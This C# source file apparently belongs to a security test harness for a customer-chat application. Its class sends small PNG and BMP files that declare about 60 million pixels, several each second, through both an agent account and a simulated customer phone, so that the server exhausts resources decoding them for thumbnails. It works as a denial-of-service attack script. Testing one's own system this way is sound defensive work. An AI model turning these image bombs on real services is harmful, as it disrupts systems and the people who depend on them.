using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using Balcao.Contract;
using Balcao.Crash;

namespace Balcao.Attack;

/// <summary>
/// Small files that declare 50 to 60 million pixels each: an agent sends them, and a customer does, whose files the server
/// fetches. Each gets a small copy, for which it is decoded.
/// </summary>
internal sealed class HugePictures : IAttack
{
    private const int Width = 7740, Height = 7740;

    private static readonly TimeSpan BetweenRounds = TimeSpan.FromSeconds(1);

    private readonly Customer _customer = Texts.By(Cast.Numbers[0], 705, 0, "Panorama");
    private IReadOnlyList<EmptyPng> _pictures = [];
    private ChatId _chat;

    public string Finding => "S12";

    public string Words => "an agent and a customer send pictures of 60 million pixels, six a second";

    public async Task<string?> PrepareAsync(Stage stage, CancellationToken ct)
    {
        _pictures = [new EmptyPng(Width, Height, isInterlaced: false), new EmptyPng(Width, Height, isInterlaced: true)];
        var place = await Texts.BeginAsync(stage.World, _customer, ct);
        _chat = place.Message.ChatId!.Value;
        await stage.Attacked.Api.TakeChatAsync(_chat, ct);
        using var made = await stage.World.Phones.PostAsJsonAsync("simulator/phones", new Dictionary<string, string> { ["name"] = _customer.Name, ["waId"] = _customer.Phones[0] }, ct);
        made.EnsureSuccessStatusCode();
        return null;
    }

    public async Task RunAsync(Stage stage, Answers answers, CancellationToken stop)
    {
        var agent = new BalcaoApi(stage.Program(stage.Attacked, 75));
        for (var round = 0; ; round++)
        {
            var number = round;
            await Task.WhenAll(
            [
                .. _pictures.Select((picture, i) => answers.CountAsync(() => SendAsync(agent, picture, Word(number, i), stop), stop)),
                .. _pictures.Select((picture, i) => WriteAsync(stage.World, picture.With("customer " + Word(number, i)), "image/png", stop)),
                .. _pictures.Select((_, i) => WriteAsync(stage.World, HollowBmp.Of(7000 - i, 7000), "image/jpeg", stop)),
            ]);
            await Task.Delay(BetweenRounds, stop);
        }
    }

    private async Task<HttpStatusCode?> SendAsync(BalcaoApi agent, EmptyPng picture, string word, CancellationToken stop)
    {
        using var file = new MemoryStream(picture.With("agent " + word));
        var upload = await agent.UploadAsync(file, "foto.png", "image/png", null, stop);
        await agent.SendMessageAsync(_chat, new SendMessageRequest { ClientKey = "picture " + word, UploadId = upload.Id }, stop);
        return HttpStatusCode.OK;
    }

    /// <summary>From the customer's phone: the server is told, and fetches the file.</summary>
    private async Task WriteAsync(World world, byte[] file, string mimeType, CancellationToken stop)
    {
        using var taken = await world.Phones.PostAsJsonAsync($"simulator/phones/{_customer.Phones[0]}/messages", new Dictionary<string, string>
        {
            ["type"] = "image", ["to"] = _customer.Number.PhoneNumberId, ["data"] = Convert.ToBase64String(file), ["mimeType"] = mimeType,
        }, stop);
        taken.EnsureSuccessStatusCode();
    }

    private static string Word(int round, int i) => string.Create(CultureInfo.InvariantCulture, $"{round}.{i}");
}
